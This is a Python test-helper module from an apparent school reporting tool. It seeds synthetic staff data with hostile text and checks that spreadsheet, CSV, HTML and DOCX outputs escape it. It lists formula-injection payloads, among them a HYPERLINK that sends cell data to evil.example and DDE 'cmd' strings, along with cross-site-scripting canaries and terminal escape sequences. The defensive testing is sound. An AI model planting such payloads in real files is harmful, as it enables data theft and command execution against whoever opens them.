"""Helpers that prove nothing from the input turns into code in an output (issue 10).

Use them from any test of a writer:

* :func:`hostile_school` writes a valid school (CSV folder) whose text fields carry spreadsheet
  formulas, HTML/script canaries, rich markup and control characters.
* :func:`assert_no_formulas_xlsx` / :func:`assert_no_formulas_csv`: no cell of a spreadsheet
  output is a formula or text a spreadsheet would run as one.
* :func:`assert_html_escaped`: no canary reaches an HTML page unescaped (call it on every page an
  HTML writer produces from :func:`hostile_school`'s data, e.g. the governors' report and the
  dashboard; tests/test_safe_output.py does so for the writers that exist).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

#: Text that Excel, LibreOffice or Google Sheets would run if written as it is.
FORMULA_PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click for your pay rise")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =2+2",
    "\uff1d1+1",
)
#: Text that would run or restyle a page if put into HTML unescaped. Each holds "pm-canary".
HTML_CANARIES = (
    "<script>alert('pm-canary')</script>",
    "\"><img src=x onerror=alert('pm-canary')>",
    "</script><script>alert('pm-canary-2')</script>",
)
MARKUP = "[/bold][link=http://evil.example]pm-canary[/link]"
CONTROL = "pm-canary\x1b]0;owned\x07\x1b[2J"
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def hostile_school(folder: Path, seed: int = 3, n_staff: int = 20, *, invalid: bool = False) -> Path:
    """A synthetic school as a CSV folder, with hostile text in names, posts, the school's name and
    local authority, review notes and objective descriptions. The data stays valid unless ``invalid``,
    which also puts the payloads where validation quotes them back: in assessments (a code, so
    its value is shown) and in an extra column's heading."""
    from pmreport.synth import generate

    school = generate(phase="primary", seed=seed, n_staff=n_staff)
    out = folder / "hostile_csv"
    school.write_csv_dir(out)
    payloads = (*FORMULA_PAYLOADS, *HTML_CANARIES, MARKUP)
    plant = {
        "staff": {"name": payloads, "post": payloads},
        "school": {"school_name": ("<script>alert('pm-canary')</script> Primary",), "local_authority": FORMULA_PAYLOADS[:1]},
        "reviews": {"notes": (*payloads, CONTROL)},
        "objectives": {"description": payloads},
    }
    if invalid:
        plant["reviews"]["assessment"] = payloads
    for sheet, columns in plant.items():
        path = out / f"{sheet}.csv"
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
        header = rows[0]
        for col, values in columns.items():
            j = header.index(col)
            for i, row in enumerate(rows[1:]):
                row[j] = values[i % len(values)]
        if invalid and sheet == "objectives":
            rows[0].append(FORMULA_PAYLOADS[0])
            for row in rows[1:]:
                row.append("x")
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\n").writerows(rows)
        path.write_text(buf.getvalue(), encoding="utf-8")
    return out


_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
#: JSON data islands: <script type="application/json">. Text there is data, never run, provided nothing
#: in it can end the element early or confuse the parser ("</" and "<!--" escaped).
_JSON_SCRIPT = re.compile(r"<script\b[^>]*\btype=[\"']application/(?:ld\+)?json[\"'][^>]*>(.*?)</script\s*>", re.S | re.I)


def _dangerous(value: object) -> bool:
    return isinstance(value, str) and (value.startswith(DANGEROUS_STARTS) or value.lstrip(" ").startswith(DANGEROUS_STARTS))


def assert_no_formulas_xlsx(path: Path) -> int:
    """Every cell of every sheet is a value, and no text would run as a formula. Returns cells checked."""
    import openpyxl

    wb = openpyxl.load_workbook(path)  # not read-only: data_type is what the file says
    checked = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                checked += 1
                assert cell.data_type != "f", f"{path.name}!{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                assert not _dangerous(cell.value), f"{path.name}!{ws.title}!{cell.coordinate} would run: {cell.value!r}"
    return checked


def assert_no_formulas_csv(path: Path) -> int:
    text = path.read_text(encoding="utf-8-sig")
    checked = 0
    for row in csv.reader(io.StringIO(text, newline="")):
        for value in row:
            checked += 1
            assert _PLAIN_NUMBER.match(value) or not _dangerous(value), f"{path.name}: {value!r} would run as a formula"
    return checked


def assert_html_escaped(html: str, where: str = "page") -> None:
    """No canary of :data:`HTML_CANARIES` (nor any part of one that could run) is in the page as it is.

    Inside a JSON data island (``<script type="application/json">``) text is data: there it must
    only be unable to close the element or open a comment."""
    for island in _JSON_SCRIPT.finditer(html):
        body = island.group(1)
        assert "</" not in body and "<!--" not in body, f"{where}: a JSON data island could be closed from inside"
    html = _JSON_SCRIPT.sub("", html)
    for raw in ("<script>alert('pm-canary", "<img src=x onerror", "onerror=alert('pm-canary", "[link=http://evil"):
        assert raw not in html, f"{where} holds {raw!r} unescaped"
    assert "\x1b" not in html, f"{where} holds a control character from the input"


def assert_docx_escaped(path: Path) -> None:
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.endswith(".xml"):
                assert_html_escaped(zf.read(name).decode("utf-8", "replace"), f"{path.name}:{name}")
